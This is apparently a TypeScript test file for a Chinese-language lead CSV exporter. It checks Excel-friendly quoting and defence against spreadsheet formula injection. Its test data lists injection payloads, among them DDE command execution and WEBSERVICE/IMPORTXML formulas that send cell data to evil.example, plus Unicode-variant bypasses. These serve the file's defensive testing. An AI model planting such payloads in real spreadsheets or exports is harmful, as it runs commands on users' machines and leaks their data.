import { trimLead } from '@site/shared/contract/lead-fields';
import type { LeadListing } from './leads.repository';
import { writeCsv } from './leads-csv';

const lead: LeadListing = {
  ...{
    id: 'a',
    form: 'quick',
    ...trimLead({ name: '王"女士', phone: '13800138000', requirement: '一,\n二' }),
    fromtype: 'pc-www',
    committype: 3,
  },
  ...{
    url: '',
    sourceUrl: '',
    ask: '要机位图',
    consentAt: null,
    wishedAt: '2026-11-30T02:00:00.000Z',
    changedAt: null,
    cancelledAt: null,
    flags: [],
    receivedAt: '2026-11-20T00:00:00.000Z',
    sealed: '',
    delivery: 'none',
    lastFailure: '',
  },
};

test('cells are quoted and the file opens in Excel as UTF-8', () => {
  const csv = writeCsv([lead]);

  expect(csv.startsWith('\uFEFF编号,')).toBe(true);
  expect(csv).toContain('a,2026-11-20T00:00:00.000Z,quick,"王""女士",13800138000,');
  expect(csv).toContain(',"一,\n二",');
  expect(csv).toContain(',pc-www,3,');
  expect(csv).toContain(',2026-11-30 10:00,');
});

/** What spreadsheets have been made to run by, from public lists of such cells. */
const injections = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","看")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '|calc',
  '%0A-3+3',
  '＝1+1',
  '＋1',
  '－1',
  '﹣1',
  '＠SUM(A1)',
  '｜calc',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000＝1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1',
  "'=1+1",
];

test.each(injections)('%j is text and no formula', (name) => {
  const cell = `'${name}`;
  const written = /[",;\t\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell;

  expect(writeCsv([{ ...lead, name }])).toContain(`,${written},`);
});

test.each(['王女士', '13800138000', '2026-11-20', 'a=b', '一＝二', '(+86)'])('%s stays as it is', (name) => {
  expect(writeCsv([{ ...lead, name }])).toContain(`,${name},`);
});
